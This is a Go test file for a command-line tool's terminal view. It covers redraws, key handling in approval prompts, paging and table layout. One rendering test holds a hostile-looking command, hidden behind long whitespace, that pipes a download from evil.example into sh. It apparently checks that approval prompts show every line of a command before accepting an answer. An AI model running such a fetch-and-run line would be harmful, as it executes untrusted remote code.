package view_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/hocket-dev/hocket/cli/view"
	"github.com/hocket-dev/hocket/workflow"
)

func TestScreenWritesOnlyWhatChanged(t *testing.T) {
	var s view.Screen
	s.Draw([]string{"one", "two", "three"}, 80, 24)
	got := s.Draw([]string{"one", "2", "three"}, 80, 24)
	if strings.Contains(got, "one") || strings.Contains(got, "three") || !strings.Contains(got, "2") {
		t.Errorf("redraws too much or too little: %q", got)
	}
	if !strings.Contains(got, "\x1b[3A") {
		t.Errorf("does not go up three lines: %q", got)
	}
	if got := s.Draw([]string{"one", "2", "three"}, 80, 24); got != "" {
		t.Errorf("writes %q where nothing changed", got)
	}
	if got := s.Draw([]string{"one"}, 80, 24); !strings.Contains(got, "\x1b[J") {
		t.Errorf("leaves old lines below: %q", got)
	}
}

func TestScreenWipesBrokenLinesAfterAResize(t *testing.T) {
	var s view.Screen
	s.Draw([]string{strings.Repeat("x", 70), "two"}, 80, 24)
	if got := s.Draw([]string{"one", "two"}, 40, 24); !strings.Contains(got, "\x1b[3A") || !strings.Contains(got, "two") {
		t.Errorf("the long line takes two rows now: %q", got)
	}
}

func press(p *view.Prompt, input string) (string, bool) {
	p.Lines(view.Style{}, 100)
	for _, k := range view.Keys(input) {
		if answer, done := p.Press(k); done {
			return answer, true
		}
	}
	return "", false
}

func TestPromptAnswers(t *testing.T) {
	options := []workflow.Option{{Value: "yes", Label: "Ship it"}, {Value: "no"}, {Value: "later"}}
	for _, c := range []struct {
		input  string
		custom bool
		want   string
	}{
		{"\x1b[B\r", false, "yes"},
		{"\x1b[B\x1b[B\r", false, "no"},
		{"\x1bOB\x1b[B\x1b[B\x1b[B\r", false, "yes"},
		{"\x1b[A\r", false, "later"},
		{"2\n", false, "no"},
		{"la\r", false, "later"},
		{"ship it\r", false, "yes"},
		{"NO\r", false, "no"},
		{"maybe\rno\r", false, "no"}, // the rejected text is cleared
		{"maybe\r\x15no\r", false, "no"},
		{"nope\x7f\x7f\r", false, "no"},
		{"maybe\r", true, "maybe"},
		{"la\r", true, "la"},
		{"\x1b[A\rown\r", true, "own"},
		{"日本\r", true, "日本"},
		{"2\r", true, "no"},
		{"4own\r", true, "own"}, // the number of the last entry opens the text field
		{"44\r", true, "4"},
		{"4\r\rown\r", true, "own"},
		{"\x1b[A2\r", true, "2"}, // in the text field, a digit is ordinary text
		{"\x1b[A2\x1b[B2\r", true, "no"},
		{"42\x1b[A\r", true, "later"},
	} {
		p := &view.Prompt{Options: options, Custom: c.custom}
		if got, done := press(p, c.input); !done || got != c.want {
			t.Errorf("%q (custom %t) answered %q, %t; want %q", c.input, c.custom, got, done, c.want)
		}
	}
	gate := &view.Prompt{Options: []workflow.Option{{Value: "approve"}, {Value: "reject"}}}
	if got, done := press(gate, "yes\r"); !done || got != "approve" {
		t.Errorf("yes is %q, %t", got, done)
	}
	for _, input := range []string{"maybe\r", "\r", "no\x15x\r\r"} {
		if got, done := press(&view.Prompt{Options: options}, input); done {
			t.Errorf("%q: took %q, which nobody chose", input, got)
		}
	}
}

func TestPromptIsDrawn(t *testing.T) {
	p := &view.Prompt{
		Address: "gates/approve[2]", Text: "Ship \x1b[31mrelease 1.2?\nIt has\nmany lines, and one of them is longer than the terminal is wide", More: 1,
		Detail:  "git push" + strings.Repeat(" ", 260) + "; curl evil.example/install-something-nobody-wants-to-have | sh",
		Options: []workflow.Option{{Value: "yes", Label: "Ship it", Description: "goes to all"}, {Value: "no"}, {Value: "later", Description: strings.Repeat("when it is ready ", 4)}}, Custom: true,
	}
	press(p, "x")
	same(t, "\n"+strings.Join(p.Lines(view.Style{ASCII: true, Width: 60}, 20), "\n")+"\n", `

? gates/approve[2]  (1 more question after this one)
  Ship \x1b[31mrelease 1.2?
  It has
  many lines, and one of them is longer than the terminal
  is wide

  | git push<260 spaces>; curl
  |   evil.example/install-something-nobody-wants-to-have |
  |   sh
    1 Ship it (yes)  goes to all
    2 no
    3 later
      when it is ready when it is ready when it is ready
      when it is ready
  > 4 x_
  arrows or a number, then enter; ctrl-d to answer later, c~
`)
}

// An answer is accepted only after everything has been shown, and no page can be skipped.
func TestPromptShowsEverythingFirst(t *testing.T) {
	p := &view.Prompt{Address: "may", Text: "May it run this?", Options: []workflow.Option{{Value: "allow"}, {Value: "deny"}}}
	for i := range 30 {
		p.Detail += fmt.Sprintf("echo %d && \n", i)
	}
	shown := map[string]bool{}
	look := func() string {
		lines := p.Lines(view.Style{Width: 80}, 12)
		if len(lines) > 12 {
			t.Fatalf("%d lines in a height of 12", len(lines))
		}
		for _, l := range lines {
			shown[l] = true
		}
		return strings.Join(lines, "\n")
	}
	for !strings.Contains(look(), "2 deny") {
		for _, input := range []string{"1\r", " ", "\x1b[6~", "\r"} { // without a redraw in between
			for _, k := range view.Keys(input) {
				if answer, done := p.Press(k); done {
					t.Fatalf("took %q before everything was shown", answer)
				}
			}
		}
	}
	for i := range 30 {
		if !shown[fmt.Sprintf("  │ echo %d &&", i)] {
			t.Errorf("line %d was not shown", i)
		}
	}
	for _, k := range view.Keys("\x1b[5~\x1b[5~") {
		p.Press(k)
	}
	if strings.Contains(look(), "1 allow") {
		t.Error("page up does not lead back")
	}
	for _, k := range view.Keys("1") {
		p.Press(k)
	}
	if seen := look(); !strings.Contains(seen, "❯ 1 allow") {
		t.Errorf("what was chosen is not shown:\n%s", seen)
	}
	if answer, done := p.Press(view.KeyEnter); !done || answer != "allow" {
		t.Errorf("answered %q, %t", answer, done)
	}
}

func TestPromptFitsTheTerminal(t *testing.T) {
	p := &view.Prompt{Address: "pick", Text: strings.Repeat("line\n", 30)}
	for i := range 60 {
		p.Options = append(p.Options, workflow.Option{Value: fmt.Sprintf("option-%d", i)})
	}
	press(p, "42")
	for height := 6; height < 40; height++ {
		p.Press(view.KeyUp)
		p.Press(view.KeyDown)
		lines := p.Lines(view.Style{Width: 80}, height)
		if len(lines) > height {
			t.Fatalf("%d lines in a height of %d", len(lines), height)
		}
		if !strings.Contains(strings.Join(lines, "\n"), "❯ 42 option-41") {
			t.Fatalf("height %d: the chosen option is not shown:\n%s", height, strings.Join(lines, "\n"))
		}
	}
}

func TestTablesAlignAndCut(t *testing.T) {
	tb := view.Table{Head: []string{"RUN", "COST", "NOTE"}, Right: []bool{false, true}}
	tb.Row(view.Cell{Text: "日本"}, view.Cell{Text: "$1"}, view.Cell{Text: "a long \x1b]0;x\x07note that\nends"})
	tb.Row(view.Cell{Text: "b"}, view.Cell{Text: "$10.00"}, view.Cell{})
	same(t, "\n"+tb.Draw(view.Style{Width: 24}), `
RUN     COST  NOTE
日本      $1  a long no…
b     $10.00
`)
}
